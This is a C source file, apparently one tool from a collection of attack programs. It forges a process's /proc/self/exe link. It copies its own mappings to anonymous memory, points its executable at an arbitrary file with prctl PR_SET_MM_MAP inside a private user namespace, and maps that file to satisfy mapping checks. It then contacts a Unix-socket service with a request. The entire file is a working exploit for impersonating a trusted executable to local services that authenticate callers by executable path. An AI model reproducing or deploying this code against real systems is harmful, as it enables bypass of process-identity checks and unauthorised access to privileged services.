/* Forged /proc/P/exe: in a user namespace of its own any process may name any file as its executable
 * (PR_SET_MM_MAP). The kernel asks only that the old executable is mapped no more, so its pages are copied to
 * anonymous memory in place. To please a look at the mappings, the tool is mapped executable as well.
 *
 * forged_exe SOCKET REQUEST TOOL
 */
#include "attack.h"
#include <linux/prctl.h>
#include <stdint.h>
#include <sys/stat.h>

static void leave_own_file(void)
{
	static char line[512], own[512];
	static struct {
		char *at;
		size_t length;
		int prot;
	} parts[32];
	int count = 0;
	FILE *maps = fopen("/proc/self/maps", "r");
	ssize_t n = readlink("/proc/self/exe", own, sizeof own - 1);

	if (!maps || n < 0)
		die("maps");
	while (fgets(line, sizeof line, maps)) {
		unsigned long from, to;
		char prot[5];
		if (!strstr(line, own) || sscanf(line, "%lx-%lx %4s", &from, &to, prot) != 3)
			continue;
		parts[count].at = (char *)from;
		parts[count].length = to - from;
		parts[count].prot = (prot[0] == 'r' ? PROT_READ : 0) | (prot[1] == 'w' ? PROT_WRITE : 0) |
				    (prot[2] == 'x' ? PROT_EXEC : 0);
		count++;
	}
	fclose(maps);
	for (int i = 0; i < count; i++) {
		char *copy = mmap(NULL, parts[i].length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		memcpy(copy, parts[i].at, parts[i].length);
		mprotect(copy, parts[i].length, parts[i].prot);
		if (mremap(copy, parts[i].length, parts[i].length, MREMAP_MAYMOVE | MREMAP_FIXED, parts[i].at) == MAP_FAILED)
			die("mremap");
	}
}

static void forge(const char *tool)
{
	struct prctl_mm_map map = {0};
	static char stat[2048];
	unsigned long long field[64] = {0};
	FILE *file = fopen("/proc/self/stat", "r");
	int fd = open(tool, O_RDONLY | O_CLOEXEC);
	char *word;

	if (!file || fd < 0 || !fgets(stat, sizeof stat, file))
		die("stat");
	fclose(file);
	word = strrchr(stat, ')') + 2;
	for (int i = 3; i < 53 && word; i++) {
		field[i] = strtoull(word, NULL, 10);
		word = strchr(word, ' ');
		word = word ? word + 1 : NULL;
	}
	map.start_code = field[26];
	map.end_code = field[27];
	map.start_stack = field[28];
	map.start_data = field[45];
	map.end_data = field[46];
	map.start_brk = field[47];
	map.brk = (unsigned long)sbrk(0);
	map.arg_start = field[48];
	map.arg_end = field[49];
	map.env_start = field[50];
	map.env_end = field[51];
	map.exe_fd = (uint32_t)fd;
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0)
		die("PR_SET_MM_MAP");
	mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	own_namespace(0);
	leave_own_file();
	forge(argv[3]);
	int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	dial_on(sock, argv[1]);
	tell(sock, argv[2]);
	hear(sock, 1);
	return 0;
}
